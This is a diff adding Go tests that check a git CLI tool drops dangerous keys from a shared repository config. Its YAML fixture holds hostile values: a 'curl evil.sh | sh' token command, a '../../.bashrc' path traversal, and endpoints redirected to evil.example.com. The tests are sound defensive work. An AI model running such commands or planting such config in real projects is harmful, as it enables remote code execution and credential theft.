@@ -0,0 +1,187 @@
+package gitutil
+
+import (
+	"fmt"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/kidonchu/gitcli/testutil"
+)
+
+const sharedYAML = `
+version: 1
+source:
+  default: upstream/master
+remote:
+  target: origin
+branch:
+  template: "{type}/{issue}-{slug}"
+  prefixes: [feature, bugfix]
+  maxLength: 60
+issuePrefix: PROJ-
+db:
+  App:
+    template: app_{branch}
+    pass: hunter2
+  protected: [prod_*]
+oauthtoken: abc
+oauthtokencmd: curl evil.sh | sh
+insecure: true
+ssh:
+  knownhosts: .known_hosts
+  privatekey: .id_rsa
+envfile: ../../.bashrc
+envtemplate: env.template
+`
+
+const sharedTOML = `
+version = 1
+
+[source]
+default = "upstream/master"
+
+[branch]
+prefixes = ["feature", "bugfix"]
+maxlength = 60
+
+[fetch]
+prune = true
+`
+
+func checkSharedValues(t *testing.T, shared *SharedConfig, expected map[string]string) {
+	for name, value := range expected {
+		if result, _ := shared.lookup(name); result != value {
+			testutil.CheckFatal(t, fmt.Errorf("Expected `%s` to be `%s` but got `%s`", name, value, result))
+		}
+	}
+}
+
+func TestParseSharedConfigYAML(t *testing.T) {
+	shared, err := parseSharedConfig(".gitcli.yaml", []byte(sharedYAML))
+	testutil.CheckFatal(t, err)
+
+	checkSharedValues(t, shared, map[string]string{
+		"story.source.default":   "upstream/master",
+		"story.remote.target":    "origin",
+		"story.branch.template":  "{type}/{issue}-{slug}",
+		"story.branch.prefixes":  "feature,bugfix",
+		"story.branch.maxlength": "60",
+		"story.issuePrefix":      "PROJ-",
+		"story.db.App.template":  "app_{branch}",
+		"story.db.protected":     "prod_*",
+		"story.envtemplate":      "env.template",
+	})
+
+	ignored := []string{
+		"story.db.App.pass", "story.oauthtoken", "story.oauthtokencmd",
+		"story.insecure", "story.ssh.knownhosts", "story.ssh.privatekey", "story.envfile",
+	}
+	for _, name := range append(ignored, "story.version") {
+		if value, ok := shared.lookup(name); ok {
+			testutil.CheckFatal(t, fmt.Errorf("Expected `%s` to be left out but got `%s`", name, value))
+		}
+	}
+	if len(shared.Ignored) != len(ignored) {
+		testutil.CheckFatal(t, fmt.Errorf("Expected %d ignored keys but got %v", len(ignored), shared.Ignored))
+	}
+}
+
+func TestParseSharedConfigTOML(t *testing.T) {
+	shared, err := parseSharedConfig(".gitcli.toml", []byte(sharedTOML))
+	testutil.CheckFatal(t, err)
+
+	checkSharedValues(t, shared, map[string]string{
+		"story.source.default":   "upstream/master",
+		"story.branch.prefixes":  "feature,bugfix",
+		"story.branch.maxlength": "60",
+		"story.fetch.prune":      "true",
+	})
+}
+
+func TestParseSharedConfigInvalid(t *testing.T) {
+	cases := map[string]string{
+		".gitcli.yaml": "version: 2\n",
+		".gitcli.yml":  "source: [\n",
+		".gitcli.toml": "[branch]\nprefixes = [[\"a\"]]\n",
+	}
+	for path, data := range cases {
+		if _, err := parseSharedConfig(path, []byte(data)); err == nil {
+			testutil.CheckFatal(t, fmt.Errorf("Expected `%s` to be invalid", data))
+		}
+	}
+}
+
+func TestSharedConfigUnderGitConfig(t *testing.T) {
+	repo := createTestRepo(t)
+	defer os.RemoveAll(repo.Workdir())
+
+	err := ioutil.WriteFile(filepath.Join(repo.Workdir(), ".gitcli.yaml"), []byte(sharedYAML), 0644)
+	testutil.CheckFatal(t, err)
+
+	repoConfig, err := repo.Config()
+	testutil.CheckFatal(t, err)
+	testutil.CheckFatal(t, repoConfig.SetString("story.remote.target", "mine"))
+
+	defer useRepoConfig(t, repo.Workdir())()
+
+	// personal git config wins over shared config
+	result, err := ConfigString("story.remote.target")
+	testutil.CheckFatal(t, err)
+	if result != "mine" {
+		testutil.CheckFatal(t, fmt.Errorf("Expected `mine` but got `%s`", result))
+	}
+
+	maxLength, err := ConfigInt32("story.branch.maxlength")
+	testutil.CheckFatal(t, err)
+	if maxLength != 60 {
+		testutil.CheckFatal(t, fmt.Errorf("Expected `60` but got `%d`", maxLength))
+	}
+
+	values, err := ConfigValues(`^story\.(remote|source)\.`)
+	testutil.CheckFatal(t, err)
+	expected := []ConfigValue{
+		{Name: "story.remote.target", Value: "mine", Origin: "local"},
+		{Name: "story.source.default", Value: "upstream/master", Origin: "shared"},
+	}
+	if len(values) != len(expected) {
+		testutil.CheckFatal(t, fmt.Errorf("Expected %d values but got %+v", len(expected), values))
+	}
+	for i, value := range values {
+		if value.Name != expected[i].Name || value.Value != expected[i].Value || value.Origin != expected[i].Origin {
+			testutil.CheckFatal(t, fmt.Errorf("Expected %+v but got %+v", expected[i], value))
+		}
+	}
+}
+
+func TestSharedConfigSecretEndpoints(t *testing.T) {
+	data := `
+issue:
+  provider: jira
+  url: https://evil.example.com
+hosteddb:
+  host: evil.example.com
+  user: app
+db:
+  App:
+    host: evil.example.com
+`
+	shared, err := parseSharedConfig(".gitcli.yaml", []byte(data))
+	testutil.CheckFatal(t, err)
+
+	checkSharedValues(t, shared, map[string]string{
+		"story.issue.provider": "jira",
+		"story.hosteddb.user":  "app",
+	})
+
+	// tokens and passwords must not be sent where the file says
+	for _, name := range []string{"story.issue.url", "story.hosteddb.host", "story.db.App.host"} {
+		if value, ok := shared.lookup(name); ok {
+			testutil.CheckFatal(t, fmt.Errorf("Expected `%s` to be left out but got `%s`", name, value))
+		}
+	}
+	if len(shared.Ignored) != 3 {
+		testutil.CheckFatal(t, fmt.Errorf("Expected 3 ignored keys but got %v", shared.Ignored))
+	}
+}